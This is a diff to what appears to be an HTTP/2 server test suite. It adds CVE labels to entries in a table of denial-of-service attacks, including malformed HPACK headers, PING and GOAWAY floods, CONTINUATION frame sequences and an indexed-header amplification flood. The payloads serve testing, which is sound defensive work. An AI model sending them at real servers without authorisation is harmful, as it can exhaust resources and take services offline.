@@ -130,7 +130,7 @@ export const ATTACKS: Record<string, Attack> = {
   'GOAWAY without end': same(10_000, frame(GOAWAY, 0, 0, Buffer.alloc(8))),
   'CVE-2025-59465: HPACK that is malformed': once(header(1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f]))),
   'HPACK that is cut off': once(header(1, Buffer.from([0, 0x50, 0x41]))),
-  'HPACK that is malformed, and then PING without end': async session => {
+  'CVE-2026-48937: HPACK that is malformed, and then PING without end': async session => {
     await session.send(OPENING, header(1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f])));
     await flood(session, 20_000, () => ping);
   },
@@ -140,7 +140,7 @@ export const ATTACKS: Record<string, Attack> = {
     for (let at = 0; at < 20; at++)
       await session.send(frame(CONTINUATION, at < 19 ? 0 : END_HEADERS, 1, fields));
   },
-  'a field of 4 KB that is repeated by its index': async session => {
+  'CVE-2026-56846: a field of 4 KB that is repeated by its index': async session => {
     const indexes = Buffer.alloc(12_000, LARGE_INDEX);
     await session.send(OPENING, header(1, Buffer.concat([requestBlock(), LARGE_FIELD, indexes])));
     await flood(session, 100, at => header(streamOf(at + 1), Buffer.concat([requestBlock(), indexes])));
